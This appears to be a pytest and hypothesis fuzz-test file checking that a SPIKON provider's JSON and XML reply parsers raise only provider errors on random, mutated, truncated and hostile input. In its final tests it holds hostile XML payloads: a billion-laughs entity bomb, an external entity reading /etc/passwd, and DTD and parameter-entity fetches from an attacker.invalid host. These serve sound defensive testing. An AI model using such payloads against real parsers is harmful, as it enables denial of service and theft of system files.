"""Hostile and random SPIKON replies raise only ``ProviderError`` — and hostile XML fast."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from providers.errors import ProviderBadResponseError, ProviderError
from providers.model import Queue
from providers.spikon import parse
from tests.providers.spikon.recorded import FIXTURES

Reader = Callable[[bytes, int], object]

READERS: list[Reader] = [
    parse.parse_campaigns,
    lambda body, fmt: parse.parse_monitor(body, fmt, Queue(id="1", name="x")),
    parse.parse_agents,
    parse.parse_phone_accounts,
    parse.parse_call_initiate,
    parse.parse_add_agent,
    parse.parse_remove_agent,
    parse.parse_set_default,
]

SAMPLES: list[tuple[bytes, int]] = [
    (path.read_bytes(), 1 if path.suffix == ".xml" else 0)
    for path in sorted(FIXTURES.glob("*/*"))
    if path.suffix in (".json", ".xml")
]

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def only_provider_errors(body: bytes, fmt: int) -> None:
    for reader in READERS:
        with contextlib.suppress(ProviderError):
            reader(body, fmt)


@FUZZ
@given(body=st.binary(max_size=2000), fmt=st.sampled_from([0, 1]))
def test_arbitrary_bytes(body: bytes, fmt: int) -> None:
    only_provider_errors(body, fmt)


KEYS = st.sampled_from(
    [
        "cc-campaigns", "cc-campaign-1", "cc-campaign-2", "count", "id", "name", "cc-monitor",
        "basic-data", "campaign-members", "cc-campaign-member-1", "waiting-calls",
        "waiting-call-1", "login", "state", "pause", "skill", "sla", "measured-sla",
        "free-members", "cc-agents", "cc-agent-1", "in_campaigns", "out_campaigns", "sip",
        "errors", "error", "text", "desc", "add_agent_status", "remove_agent", "status",
        "out_campaign_set_default", "call", "phone-accounts", "phone-account-1",
        "waiting-time", "number", "position",
    ]
)  # fmt: skip
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=20),
    st.sampled_from(["Wolny", "Zajęty", "Tak", "Nie", "Brak danych", "01:00", "OK", "-3"]),
)
TREES = st.recursive(
    SCALARS,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(KEYS | st.text(max_size=8), children)
    ),
    max_leaves=40,
)


@FUZZ
@given(tree=st.dictionaries(KEYS, TREES, max_size=4))
def test_arbitrary_json(tree: dict[str, object]) -> None:
    only_provider_errors(json.dumps(tree).encode(), 0)


def to_xml(tag: str, value: object) -> str:
    if isinstance(value, dict):
        inner = "".join(to_xml(k, v) for k, v in value.items())
        return f"<{tag}>{inner}</{tag}>"
    if isinstance(value, list):
        inner = "".join(to_xml("item", v) for v in value)
        return f'<{tag} type="array">{inner}</{tag}>'
    if isinstance(value, int) and not isinstance(value, bool):
        return f'<{tag} type="integer">{value}</{tag}>'
    text = "" if value is None else str(value)
    return f"<{tag}>{text.replace('&', '&amp;').replace('<', '&lt;')}</{tag}>"


XML_TAGS = KEYS.filter(lambda key: key[0].isalpha() and "_" not in key)


@FUZZ
@given(root=XML_TAGS, tree=TREES)
def test_arbitrary_xml(root: str, tree: object) -> None:
    try:
        body = to_xml(root, tree).encode()
    except UnicodeEncodeError:  # lone surrogates from st.text()
        return
    only_provider_errors(body, 1)


@FUZZ
@given(
    sample=st.sampled_from(SAMPLES),
    edits=st.lists(
        st.tuples(
            st.sampled_from(["flip", "drop", "insert"]),
            st.integers(0, 10_000),
            st.binary(min_size=1, max_size=3),
        ),
        min_size=1,
        max_size=6,
    ),
)
def test_mutated_samples(sample: tuple[bytes, int], edits: list[tuple[str, int, bytes]]) -> None:
    body, fmt = bytearray(sample[0]), sample[1]
    for kind, where, data in edits:
        at = where % (len(body) or 1)
        if kind == "flip" and body:
            body[at] ^= data[0] or 1
        elif kind == "drop":
            del body[at : at + len(data)]
        else:
            body[at:at] = data
    only_provider_errors(bytes(body), fmt)


@pytest.mark.parametrize(("body", "fmt"), SAMPLES)
def test_truncated_samples(body: bytes, fmt: int) -> None:
    for cut in range(0, len(body), 7):
        only_provider_errors(body[:cut], fmt)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<cc-campaigns><count>1</count><cc-campaign-1><id>1</id><name>&lol9;</name></cc-campaign-1></cc-campaigns>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE cc-campaigns [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<cc-campaigns><count>1</count><cc-campaign-1><id>1</id><name>&xxe;</name></cc-campaign-1></cc-campaigns>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE cc-campaigns SYSTEM "http://attacker.invalid/evil.dtd">
<cc-campaigns><count>0</count></cc-campaigns>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<cc-campaigns><count>0</count></cc-campaigns>
"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_hostile_xml_is_refused_fast(body: bytes) -> None:
    for reader in READERS:
        started = time.perf_counter()
        with pytest.raises(ProviderBadResponseError, match="unsafe XML"):
            reader(body, 1)
        assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(
    ("body", "fmt"),
    [
        (b"[" * 100_000, 0),
        (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, 0),
        (b"<a>" * 50_000 + b"</a>" * 50_000, 1),
        (b'{"cc-campaigns":{"cc-campaign-1":{"id":' + b"9" * 5000 + b"}}}", 0),
        (b'<cc-monitor><basic-data><sla type="integer">' + b"9" * 5000 + b"</sla>"
         b"</basic-data></cc-monitor>", 1),
        (b'{"cc-monitor":{"basic-data":{"sla":NaN,"free-members":Infinity}}}', 0),
        (b'<?xml version="1.0" encoding="TTF-8"?><cc-monitor/>', 1),  # found by hypothesis
    ],
)  # fmt: skip
def test_deep_or_huge_replies_are_bad_responses(body: bytes, fmt: int) -> None:
    started = time.perf_counter()
    with pytest.raises(ProviderBadResponseError):
        parse.parse_monitor(body, fmt, Queue(id="1", name="x"))
    assert time.perf_counter() - started < 2
